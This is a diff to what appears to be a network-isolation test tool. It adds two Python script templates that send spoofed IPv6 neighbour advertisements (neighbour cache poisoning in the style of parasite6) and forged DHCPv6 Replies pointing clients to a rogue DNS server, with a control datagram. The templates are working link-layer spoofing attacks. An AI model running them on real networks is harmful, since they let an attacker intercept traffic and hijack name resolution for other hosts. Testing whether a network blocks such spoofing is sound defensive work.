@@ -103,3 +103,49 @@ frame = b"\xff" * 6 + mac + struct.pack("!HH", 0x8100, %(vlan)d) + b"\x08\x06" +
 for _ in range(5):
     s.send(frame)
 '''
+
+# Unsolicited neighbour advertisements "%(target)s is at my MAC" (override flag set), to every node: one from the
+# client's own link-local address, one with the target itself as source (what parasite6 and fake_advertise6 send).
+NEIGHBOUR_CLAIM = r'''
+import socket, struct
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
+target = socket.inet_pton(socket.AF_INET6, "%(target)s")
+own = [line.split()[0] for line in open("/proc/net/if_inet6") if line.split()[5] == "eth0" and line.startswith("fe80")]
+all_nodes = socket.inet_pton(socket.AF_INET6, "ff02::1")
+
+def checksum(data):
+    data += b"\0" * (len(data) %% 2)
+    total = sum(struct.unpack("!%%dH" %% (len(data) // 2), data))
+    while total >> 16:
+        total = (total >> 16) + (total & 0xffff)
+    return ~total & 0xffff
+
+for source in [bytes.fromhex(own[0]), target]:
+    icmp = struct.pack("!BBHI16s", 136, 0, 0, 0x20000000, target) + b"\x02\x01" + mac
+    pseudo = source + all_nodes + struct.pack("!I3xB", len(icmp), 58)
+    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
+    ip6 = struct.pack("!IHBB16s16s", 0x60000000, len(icmp), 58, 255, source, all_nodes)
+    for _ in range(3):
+        s.send(b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + ip6 + icmp)
+'''
+
+# A DHCPv6 server's Reply (message type 7) naming a rogue DNS server, to every DHCPv6 client on the link, and a datagram
+# between ports DHCPv6 does not use as the control that the path carries the rest.
+DHCPV6_REPLY = r'''
+import socket, struct, time
+index = socket.if_nametoindex("eth0")
+sockets = []
+for port in (547, 5547):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
+    s.bind(("::", port))
+    sockets.append(s)
+dns = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::53")
+reply = b"\x07\x00\x00\x01" + struct.pack("!HH", 23, 16) + dns
+for _ in range(3):
+    sockets[0].sendto(reply, ("ff02::1", 546, 0, index))
+    sockets[1].sendto(b"control", ("ff02::1", 9999, 0, index))
+    time.sleep(0.2)
+'''
